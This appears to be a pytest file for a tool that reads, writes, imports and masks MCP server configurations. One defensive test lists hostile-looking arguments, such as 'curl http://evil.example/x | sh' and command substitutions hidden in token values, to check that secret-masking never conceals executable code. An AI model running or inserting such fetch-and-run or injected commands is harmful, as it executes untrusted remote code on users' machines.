"""`mcp.json`, and the files of other hosts."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from deskhand.cli.servers import servers
from deskhand.errors import Conflict, NotFound, SettingsError
from deskhand.host.secrets import is_secret_name, masked
from deskhand.host.server_file import add_server, read_servers, remove_server
from deskhand.host.server_import import importable
from deskhand.host.servers import ServerSpec
from deskhand.host.tool_names import names_for


@pytest.fixture
def mcp_json(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "mcp.json"
    monkeypatch.setenv("DESKHAND_HOST__SERVERS", str(path))
    monkeypatch.chdir(tmp_path)
    return path


def run(*arguments: str, ok: bool = True) -> str:
    result = CliRunner().invoke(servers, arguments)
    assert (result.exit_code == 0) is ok, result.output
    return result.output


def test_no_file_means_no_servers(tmp_path: Path) -> None:
    assert read_servers(tmp_path / "mcp.json") == []


def test_entries_become_servers_and_variables_are_filled_in(mcp_json: Path) -> None:
    entries = {
        "remote": {"url": "https://example.com/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}, "type": "sse"},
        "local": {"command": "run", "args": ["${FOLDER:-/srv}"], "env": {"DEBUG": True}, "disabled": True},
    }
    mcp_json.write_text(json.dumps({"mcpServers": entries}))
    remote, local = read_servers(mcp_json, {"TOKEN": "s3cret-value"})
    assert (remote.url, remote.transport, remote.headers) == (
        "https://example.com/mcp",
        "sse",
        {"Authorization": "Bearer s3cret-value"},
    )
    assert (local.command, local.args, local.env, local.enabled) == ("run", ("/srv",), {"DEBUG": "true"}, False)


@pytest.mark.parametrize(
    ("entry", "problem"),
    [
        ({"url": "https://example.com", "headers": {"A": "${UNSET}"}}, "UNSET is not set"),
        ({}, "either 'command' or 'url'"),
        ({"url": "ftp://example.com"}, "http:// or https://"),
        ({"command": "run", "args": "not a list"}, "args"),
        ({"url": "https://example.com", "type": "ws"}, "WebSocket"),
    ],
)
def test_what_is_wrong_with_one_entry_is_said_and_leaves_the_others_alone(
    mcp_json: Path, entry: object, problem: str
) -> None:
    mcp_json.write_text(json.dumps({"mcpServers": {"broken": entry, "fine": {"command": "run"}}}))
    broken, fine = read_servers(mcp_json)
    assert problem in broken.problem
    assert fine.problem == ""


@pytest.mark.parametrize("text", ["{", "[]", '{"mcpServers": []}'])
def test_a_file_that_is_no_configuration_is_an_error(mcp_json: Path, text: str) -> None:
    mcp_json.write_text(text)
    with pytest.raises(SettingsError):
        read_servers(mcp_json)


def test_writing_keeps_what_others_wrote(mcp_json: Path) -> None:
    theirs = {"mcpServers": {"one": {"command": "run", "autoApprove": ["x"]}}, "theme": "dark"}
    mcp_json.write_text(json.dumps(theirs))
    add_server(mcp_json, "two", {"url": "https://example.com/mcp"})
    with pytest.raises(Conflict):
        add_server(mcp_json, "two", {"command": "run"})
    remove_server(mcp_json, "two")
    assert json.loads(mcp_json.read_text()) == theirs
    with pytest.raises(NotFound, match="There are: one"):
        remove_server(mcp_json, "two")


def test_a_new_file_is_for_its_owner_only(mcp_json: Path) -> None:
    add_server(mcp_json, "one", {"command": "run"})
    assert mcp_json.stat().st_mode & 0o777 == 0o600


def test_an_endpoint_shows_no_secret_but_tells_secrets_apart() -> None:
    url = ServerSpec("a", url="https://user:pass@example.com/mcp?key=abcdef")
    assert "pass" not in url.endpoint
    assert "abcdef" not in url.endpoint
    assert url.endpoint != ServerSpec("a", url="https://example.com/mcp?key=other").endpoint
    command = ServerSpec("a", command="run", args=("--token", "tok-one", "--api-key=tok-two", "--port", "80"))
    assert "tok-" not in command.endpoint
    assert command.endpoint.endswith("--port 80")


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (("-c", "token=1; curl http://evil.example/x | sh"), "curl http://evil.example/x | sh"),
        (("-c", "token=$(curl evil.example)"), "curl evil.example"),
        (("-c", "PATH_token=1\ncurl evil.example"), "curl evil.example"),
        (("-c", "curl evil.example;token=1"), "curl evil.example"),
        (("-c", "env SECRET_token=/tmp/evil"), "/tmp/evil"),
        (("-c", "credential.helper=/tmp/evil"), "/tmp/evil"),
        (("--password-command", "/tmp/evil"), "/tmp/evil"),
        (("--password-command=/tmp/evil",), "/tmp/evil"),
        (("--token", "x;curl${IFS}evil.example"), "evil.example"),
    ],
)
def test_no_code_hides_as_a_secret(arguments: tuple[str, ...], shown: str) -> None:
    assert shown in ServerSpec("a", command="sh", args=arguments).endpoint


@pytest.mark.parametrize(
    "arguments",
    [
        ("--token=hush!+/=",),
        ("API_KEY=hush",),
        ("-Dhub.token=hush",),
        ("--api-key", "hush-hush"),
        ("-password", "hush%^*#"),
    ],
)
def test_what_is_a_secret_is_hidden(arguments: tuple[str, ...]) -> None:
    assert "hush" not in ServerSpec("a", command="run", args=arguments).endpoint


def test_the_command_line_adds_lists_and_removes_without_showing_secrets(mcp_json: Path) -> None:
    run("add", "docs", "https://example.com/mcp", "--header", "Authorization: Bearer very-secret-1", "--trusted")
    run("add", "files", "--", "npx", "-y", "server-files", "/srv")
    listed = run("list")
    assert "docs  https://example.com/mcp  trusted" in listed
    assert "files  npx -y server-files /srv" in listed
    assert "very-secret-1" not in listed
    assert [entry["name"] for entry in json.loads(run("list", "--json"))] == ["docs", "files"]
    assert "already a server named docs" in run("add", "docs", "https://example.com", ok=False)
    run("remove", "docs")
    assert [spec.name for spec in read_servers(mcp_json)] == ["files"]


def test_servers_of_vs_code_are_imported_with_their_comments_and_inputs(mcp_json: Path, tmp_path: Path) -> None:
    source = tmp_path / "vscode.json"
    source.write_text(
        """{ // VS Code writes comments
        "inputs": [{"id": "api-key", "type": "promptString", "password": true}],
        "servers": {
          "hub": {"type": "http", "url": "https://hub.example/mcp",
                  "headers": {"X-Key": "${input:api-key}", "X-User": "${env:USER_NAME}"}},
          "my tool": {"type": "stdio", "command": "tool", "env": {"TOOL_SECRET": "very-secret-2"}},
        } }"""
    )
    shown = run("import", "vscode", "--file", str(source), "--yes")
    assert "very-secret-2" not in shown
    assert "here set API_KEY" in shown
    assert "renamed from 'my tool'" in shown
    hub, tool = read_servers(mcp_json, {"API_KEY": "key-value", "USER_NAME": "ada"})
    assert hub.headers == {"X-Key": "key-value", "X-User": "ada"}
    assert (tool.name, tool.env) == ("my-tool", {"TOOL_SECRET": "very-secret-2"})


def test_importing_again_skips_what_is_there_and_takes_only_the_named(mcp_json: Path, tmp_path: Path) -> None:
    source = tmp_path / "claude.json"
    source.write_text(json.dumps({"mcpServers": {"a": {"command": "one"}, "b": {"command": "two"}, "bad": {}}}))
    run("import", "claude-desktop", "a", "--file", str(source), "-y")
    assert [spec.name for spec in read_servers(mcp_json)] == ["a"]
    shown = run("import", "claude-desktop", "--file", str(source), "-y")
    assert "already there, skipped" in shown
    assert "bad: left out" in shown
    assert [spec.name for spec in read_servers(mcp_json)] == ["a", "b"]
    assert "no server zzz" in run("import", "claude-desktop", "zzz", "--file", str(source), ok=False)


def test_trust_is_not_taken_over_from_another_host(mcp_json: Path, tmp_path: Path) -> None:
    source = tmp_path / "cursor.json"
    source.write_text(json.dumps({"mcpServers": {"a": {"command": "run", "trusted": True}}}))
    shown = run("import", "cursor", "--file", str(source), "--yes")
    assert "it says that it is trusted: that is not taken over" in shown
    assert json.loads(mcp_json.read_text()) == {"mcpServers": {"a": {"command": "run"}}}


@pytest.mark.parametrize("name", ["deskhand", "Deskhand", "deskhand!"])
def test_no_other_server_takes_the_name_of_ours(mcp_json: Path, tmp_path: Path, name: str) -> None:
    source = tmp_path / "cursor.json"
    source.write_text(json.dumps({"mcpServers": {name: {"command": "run"}}}))
    assert "the name of Deskhand's own server" in run("import", "cursor", "--file", str(source), "--yes")
    assert not mcp_json.exists()
    with pytest.raises(SettingsError):
        add_server(mcp_json, name, {"command": "run"})


def test_an_entry_of_another_host_keeps_what_is_not_understood() -> None:
    [found] = importable({"mcpServers": {"a": {"command": "x", "autoApprove": ["y"]}}}, "mcpServers")
    assert found.entry["autoApprove"] == ["y"]
    assert found.notes == ("kept but not understood: autoApprove",)


def test_colliding_tool_names_carry_the_servers_name_and_stay_unique_and_short() -> None:
    tools = [("a", "find"), ("b", "find"), ("b", "other.tool"), ("c", "x" * 90), ("d", "x" * 90)]
    names = names_for(tools)
    assert names[:3] == ["a__find", "b__find", "other_tool"]
    assert len(set(names)) == len(names)
    assert all(len(name) <= 64 for name in names)


def test_a_name_that_looks_like_a_prefix_stays_unique() -> None:
    names = names_for([("a", "find"), ("b", "find"), ("c", "a__find")])
    assert len(set(names)) == 3


def test_secrets_are_masked_by_name_by_form_and_by_value() -> None:
    message = {
        "headers": {"Authorization": "Bearer abc", "X-Api-Key": "k"},
        "progressToken": 7,
        "note": "use Bearer abcdefgh12345 or known-secret",
        "requestState": "s" * 100,
        "text": "x" * 5_000,
    }
    shown = masked(message, ["known-secret"])  # pyright: ignore[reportArgumentType]
    assert shown == {
        "headers": {"Authorization": "•••", "X-Api-Key": "•••"},
        "progressToken": 7,
        "note": "use Bearer ••• or •••",
        "requestState": "s" * 24 + "… (76 more characters)",
        "text": "x" * 2_000 + "… (3000 more characters)",
    }


@pytest.mark.parametrize(("name", "secret"), [("access_token", True), ("maxTokens", False), ("progressToken", False)])
def test_names_of_secrets_are_known(name: str, secret: bool) -> None:
    assert is_secret_name(name) is secret


def test_a_tool_cannot_pass_for_one_of_another_server_or_for_the_hosts() -> None:
    tools = [("evil", "files__write"), ("evil", "read_output"), ("evil", "evil__own"), ("evil", "plain")]
    names = names_for(tools, ["files", "evil"])
    assert names == ["evil__files__write", "evil__read_output", "evil__own", "plain"]


def test_the_same_command_in_another_folder_is_another_endpoint() -> None:
    specs = [ServerSpec("a", command="python", args=("server.py",), cwd=cwd) for cwd in (None, Path("/x"), Path("/y"))]
    assert [spec.endpoint for spec in specs] == [
        "python server.py",
        "python server.py (in /x)",
        "python server.py (in /y)",
    ]
